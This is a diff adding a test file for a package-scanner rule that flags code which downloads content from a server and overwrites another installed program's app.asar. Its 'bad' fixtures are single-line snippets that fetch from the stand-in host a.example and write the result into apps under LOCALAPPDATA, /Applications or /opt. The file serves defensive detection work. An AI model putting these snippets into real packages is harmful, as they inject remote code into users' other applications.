@@ -1,0 +1,24 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf } from '#test/support/scan-package.js';
+import { rule } from './remote-code.rule.js';
+
+const isTold = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': text, ...more }).some(({ message, severity }) => message.startsWith('the code of another program') && severity === 'high');
+const HEAD = 'const fs = require("fs"), path = require("path");\n';
+const PATCH = 'exports.run = async () => { const file = path.join(process.env.LOCALAPPDATA, "Programs", "notes", "resources", "app.asar"); const buf = fs.readFileSync(file); (await get()).copy(buf, 9); fs.writeFileSync(file, buf); };';
+
+test('bad: the code of an installed program is written where a server is asked', () => {
+  const get = 'const get = async () => Buffer.from(await (await fetch("https://a.example/notes.js")).arrayBuffer());\n';
+  assert.equal(isTold(HEAD + get + PATCH), true);
+  assert.equal(isTold(`${HEAD}const { get } = require("./get");\n${PATCH}`, { 'get.js': 'exports.get = async () => Buffer.from(await (await fetch("https://a.example/notes.js")).arrayBuffer());' }), true);
+  assert.equal(isTold(`${HEAD}require("https").get("https://a.example/a", (r) => r.pipe(fs.createWriteStream("/Applications/Notes.app/Contents/Resources/app.asar")));`), true);
+  assert.equal(isTold(`${HEAD}const apps = [{ at: ["Programs", "notes", "resources", "app.asar"] }]; const root = { win32: process.env.LOCALAPPDATA, linux: "/opt" }[process.platform]; for (const app of apps) fetch("https://a.example/a").then((r) => r.text()).then((t) => fs.writeFileSync(path.join(root, ...app.at), t));`), true);
+});
+
+test('good: what packs a program, updates itself, or reads another one', () => {
+  const ask = 'fetch("https://a.example/a").then((r) => r.arrayBuffer()).then((b) => save(Buffer.from(b)));';
+  assert.equal(isTold(`${HEAD}exports.pack = (dir) => fs.writeFileSync(path.join(dir, "resources", "app.asar"), build(dir)); ${ask}`), false, 'packs');
+  assert.equal(isTold(`${HEAD}const save = (b) => fs.writeFileSync(path.join(process.resourcesPath, "app.asar"), b); ${ask}`), false, 'updates itself');
+  assert.equal(isTold(`${HEAD}exports.version = () => JSON.parse(fs.readFileSync(path.join("/opt/notes/resources", "app.asar", "package.json"))).version; ${ask}`), false, 'reads');
+  assert.equal(isTold(HEAD + PATCH.replace('(await get())', 'own')), false, 'asks no server');
+});
